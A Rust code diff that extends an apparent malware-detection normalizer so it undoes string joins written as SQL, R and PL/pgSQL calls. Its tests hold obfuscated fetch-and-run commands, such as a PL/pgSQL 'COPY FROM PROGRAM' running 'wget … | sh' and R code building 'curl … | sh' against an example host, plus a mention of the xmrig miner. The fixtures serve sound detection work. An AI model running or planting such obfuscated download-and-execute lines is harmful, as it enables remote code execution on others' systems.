@@ -182,6 +182,25 @@ static JOIN_JS: LazyLock<Regex> =
 static CONCAT_RS: LazyLock<Regex> = LazyLock::new(|| regex(r#"\[([^\]\n]*)\]\.concat\(\s*\)"#));
 static JOIN_GO: LazyLock<Regex> =
     LazyLock::new(|| regex(r#"strings\.Join\(\s*\[\]string\{([^}\n]*)\}\s*,\s*"([^"\n]*)"\s*\)"#));
+/// A join written as a call: SQL's `concat_ws(sep, …)` and `concat(…)` (in
+/// any case), R's `paste0(…)`, `paste(…, sep = s)` and `paste(c(…),
+/// collapse = s)`, and a `sprintf`/`format` whose format takes
+/// `%s`/`%L`/`%I` in order. A method (`"{}".format(x)`, `pd.concat(…)`) is
+/// none: the character before the name is kept (group 1). Only calls with
+/// no call inside are matched, so a pass rebuilds the innermost ones.
+static CALL_JOIN: LazyLock<Regex> = LazyLock::new(|| {
+    regex(
+        r#"(^|[^.\w$])((?i:concat_ws|concat)|paste0|paste|sprintf|format)\(\s*((?:c\(([^()\n]*)\)\s*,\s*collapse\s*=\s*(?:'([^'\n]*)'|"([^"\n]*)"))|[^()\n]*)\)"#,
+    )
+});
+/// The `sep = "…"` argument of R's `paste`.
+static SEP: LazyLock<Regex> =
+    LazyLock::new(|| regex(r#",\s*sep\s*=\s*(?:'([^'\n]*)'|"([^"\n]*)")\s*$"#));
+/// An assignment whose value is an expression, read with its joins undone:
+/// R's `x <- …` and PL/pgSQL's `x type := …;`.
+static EXPRESSION: LazyLock<Regex> = LazyLock::new(|| {
+    regex(r"^\s*([A-Za-z_]\w*)\s*(?:<-|\s[A-Za-z_]\w*(?:\(\d+\))?\s*:=)\s*([^;\n]+)")
+});
 static LITERAL: LazyLock<Regex> = LazyLock::new(|| regex(r#"'([^'\n]*)'|"([^"\n]*)""#));
 static QUOTE_SPLIT: LazyLock<Regex> = LazyLock::new(|| regex(r#"(\w)(?:''|""|\$@|\\)([a-z])"#));
 static QUOTED_LETTERS: LazyLock<Regex> = LazyLock::new(|| regex(r"(\w)'(\w{1,3})'(\w)"));
@@ -199,7 +218,10 @@ pub fn normalize_with(text: &str, whole: &str) -> String {
     // The whole file's assignments are read only when a variable is used:
     // folding and matching a whole file costs more than the rest.
     let values: OnceCell<HashMap<String, String>> = OnceCell::new();
-    let values = || values.get_or_init(|| assignments(&folded(whole)));
+    // Expressions are evaluated only for text that joins with a call; the
+    // call names' literals gate the regex.
+    let calls = call_named(&shown) && CALL_JOIN.is_match(&shown);
+    let values = || values.get_or_init(|| assignments(&folded(whole), calls));
     let shown = INDIRECT.replace_all(&shown, |c: &Captures| {
         let name = c.get(1).or(c.get(2)).map_or("", |m| m.as_str());
         let target = values().get(name).and_then(|name| values().get(name));
@@ -221,21 +243,12 @@ pub fn normalize_with(text: &str, whole: &str) -> String {
                 .unwrap_or_else(|| c[0].to_owned()),
         }
     });
-    let joined = CONCAT.replace_all(&substituted, |c: &Captures| {
-        let whole = &c[0];
-        if !whole.contains('\'') && !whole.contains('"') {
-            return whole.to_owned();
-        }
-        let mut out = String::new();
-        for token in TOKEN.captures_iter(whole) {
-            if let Some(literal) = token.get(1).or(token.get(2)) {
-                out.push_str(literal.as_str());
-            } else if let Some(name) = token.get(3) {
-                out.push_str(values().get(name.as_str()).map_or(name.as_str(), |v| v));
-            }
-        }
-        format!("\"{out}\"")
-    });
+    let joined = CONCAT.replace_all(&substituted, |c: &Captures| concatenated(&c[0], values));
+    let joined = if calls {
+        joined_calls(&joined, values)
+    } else {
+        joined.into_owned()
+    };
     // `c\u\r\l` needs a pass per overlapping pair.
     let mut text = QUOTED_LETTERS.replace_all(&joined, "$1$2$3").into_owned();
     for _ in 0..3 {
@@ -244,10 +257,122 @@ pub fn normalize_with(text: &str, whole: &str) -> String {
     text
 }
 
+/// A run of literals and names joined by an operator as one quoted string
+/// (names by their values); a run of names alone as it is.
+fn concatenated<'a>(whole: &str, values: impl Fn() -> &'a HashMap<String, String>) -> String {
+    if !whole.contains('\'') && !whole.contains('"') {
+        return whole.to_owned();
+    }
+    let mut out = String::new();
+    for token in TOKEN.captures_iter(whole) {
+        if let Some(literal) = token.get(1).or(token.get(2)) {
+            out.push_str(literal.as_str());
+        } else if let Some(name) = token.get(3) {
+            out.push_str(values().get(name.as_str()).map_or(name.as_str(), |v| v));
+        }
+    }
+    format!("\"{out}\"")
+}
+
+/// Whether `text` names a call join ([`CALL_JOIN`]) anywhere.
+fn call_named(text: &str) -> bool {
+    ["paste", "printf(", "format(", "concat", "CONCAT", "Concat"]
+        .iter()
+        .any(|name| text.contains(name))
+}
+
+/// `text` with its call joins ([`CALL_JOIN`]) rebuilt, innermost first,
+/// each as one quoted string; `values` are called only for a text with a
+/// call join.
+fn joined_calls<'a>(text: &str, values: impl Fn() -> &'a HashMap<String, String>) -> String {
+    let mut text = text.to_owned();
+    // Two levels: `paste0("https://", paste(c(…), collapse = "."), "/u")`.
+    for _ in 0..2 {
+        if !CALL_JOIN.is_match(&text) {
+            break;
+        }
+        text = CALL_JOIN
+            .replace_all(&text, |c: &Captures| joined_call(c, values()))
+            .into_owned();
+    }
+    text
+}
+
+fn joined_call(c: &Captures, values: &HashMap<String, String>) -> String {
+    let quoted = |i: usize, j: usize| c.get(i).or(c.get(j)).map_or("", |m| m.as_str());
+    let before = &c[1];
+    if let Some(items) = c.get(4) {
+        return format!(
+            "{before}{}",
+            joined_list(items.as_str(), quoted(5, 6), values)
+        );
+    }
+    let args = &c[3];
+    let joined = match c[2].to_ascii_lowercase().as_str() {
+        "concat_ws" => match args.split_once(',') {
+            Some((separator, items)) => {
+                let separator = LITERAL.captures(separator).map_or(String::new(), |l| {
+                    l.get(1).or(l.get(2)).map_or("", |m| m.as_str()).to_owned()
+                });
+                joined_list(items, &separator, values)
+            }
+            None => return c[0].to_owned(),
+        },
+        "concat" | "paste0" => joined_list(args, "", values),
+        "paste" => match SEP.captures(args) {
+            Some(sep) => {
+                let items = &args[..sep.get(0).expect("a match").start()];
+                let separator = sep.get(1).or(sep.get(2)).map_or("", |m| m.as_str());
+                joined_list(items, separator, values)
+            }
+            None => joined_list(args, " ", values),
+        },
+        _ => match formatted(args, values) {
+            Some(text) => text,
+            None => return c[0].to_owned(),
+        },
+    };
+    format!("{before}{joined}")
+}
+
+/// `sprintf("… %s …", a, …)` / `format('… %L …', a)` with its arguments
+/// put in, in order; nothing when the format is not a literal.
+fn formatted(args: &str, values: &HashMap<String, String>) -> Option<String> {
+    let first = LITERAL.captures(args)?;
+    let whole = first.get(0).expect("a match");
+    if !args[..whole.start()].trim().is_empty() {
+        return None;
+    }
+    let format = first.get(1).or(first.get(2))?.as_str();
+    let rest = args[whole.end()..]
+        .trim_start()
+        .strip_prefix(',')
+        .unwrap_or("");
+    let joined = joined_list(rest, "\u{0}", values);
+    let mut parts = joined.trim_matches('"').split("\u{0}");
+    let mut out = String::new();
+    let mut pieces = format.split('%');
+    out.push_str(pieces.next().unwrap_or_default());
+    for piece in pieces {
+        match piece.chars().next() {
+            Some('s' | 'd' | 'L' | 'I') => {
+                out.push_str(parts.next().unwrap_or_default());
+                out.push_str(&piece[1..]);
+            }
+            _ => {
+                out.push('%');
+                out.push_str(piece);
+            }
+        }
+    }
+    Some(format!("\"{out}\""))
+}
+
 /// The values the assignments of `whole` give its variables: plain
-/// assignments, every one of a shell declaration, and escapes printed into
-/// a variable (decoded).
-fn assignments(whole: &str) -> HashMap<String, String> {
+/// assignments, every one of a shell declaration, escapes printed into a
+/// variable (decoded) and, with `expressions`, R's and PL/pgSQL's
+/// assignments of an expression (its joins undone).
+fn assignments(whole: &str, expressions: bool) -> HashMap<String, String> {
     let value = |c: &Captures, first: usize| {
         (first..first + 3)
             .find_map(|i| c.get(i))
@@ -277,6 +402,24 @@ fn assignments(whole: &str) -> HashMap<String, String> {
         for c in APPEND.captures_iter(whole) {
             let more = value(&c, 2);
             values.entry(c[1].to_owned()).or_default().push_str(&more);
+        }
+    }
+    // An expression's value is its joins undone, with the values the
+    // lines above it gave (in file order: a later line reads an earlier).
+    if expressions {
+        let assigning = |line: &&str| line.contains("<-") || line.contains(":=");
+        for c in whole
+            .lines()
+            .filter(assigning)
+            .filter_map(|l| EXPRESSION.captures(l))
+        {
+            let expression =
+                CONCAT.replace_all(&c[2], |j: &Captures| concatenated(&j[0], || &values));
+            let value = joined_calls(&expression, || &values);
+            let value = value.trim().trim_end_matches([',', ')']).trim();
+            if let Some(literal) = value.strip_prefix('"').and_then(|v| v.strip_suffix('"')) {
+                values.insert(c[1].to_owned(), literal.to_owned());
+            }
         }
     }
     for c in PRINTED.captures_iter(whole) {
@@ -447,6 +590,31 @@ mod tests {
             normalize("bin := strings.Join([]string{\"xm\", \"rig\"}, \"\")"),
             "bin := \"xmrig\""
         );
+    }
+
+    #[test]
+    fn sql_and_r_call_joins_are_undone() {
+        let sql = "DECLARE\n  t text := 'wg' || 'et';\n  h text := 'x.exam' || 'ple.net/i';\n  r text := concat_ws(' ', t, '-qO-', h, '|', 's' || 'h');\n  EXECUTE format('COPY o FROM PROGRAM %L', r);";
+        let lines: Vec<String> = normalize(sql).lines().map(str::to_owned).collect();
+        assert_eq!(lines[3], "  r text := \"wget -qO- x.example.net/i | sh\";");
+        assert_eq!(
+            lines[4],
+            "  EXECUTE \"COPY o FROM PROGRAM wget -qO- x.example.net/i | sh\";"
+        );
+        let r = "u <- paste0(\"https://\", paste(c(\"x\", \"example\", \"net\"), collapse = \".\"), \"/u\")\nt <- paste(c(\"cu\", \"rl\"), collapse = \"\")\njob <- sprintf(\"%s -fsS %s | %s\", t, u, paste0(\"s\", \"h\"))\nw <- paste(\"a\", \"b\", sep = \"-\")";
+        let lines: Vec<String> = normalize(r).lines().map(str::to_owned).collect();
+        assert_eq!(lines[0], "u <- \"https://x.example.net/u\"");
+        assert_eq!(
+            lines[2],
+            "job <- \"curl -fsS https://x.example.net/u | sh\""
+        );
+        assert_eq!(lines[3], "w <- \"a-b\"");
+        assert_eq!(
+            normalize("  r text := CONCAT('cu', 'rl -s x | ', 'sh');"),
+            "  r text := \"curl -s x | sh\";"
+        );
+        // A format that is not a literal stays as it is.
+        assert_eq!(normalize("s = format(fmt, x)"), "s = format(fmt, x)");
     }
 
     #[test]
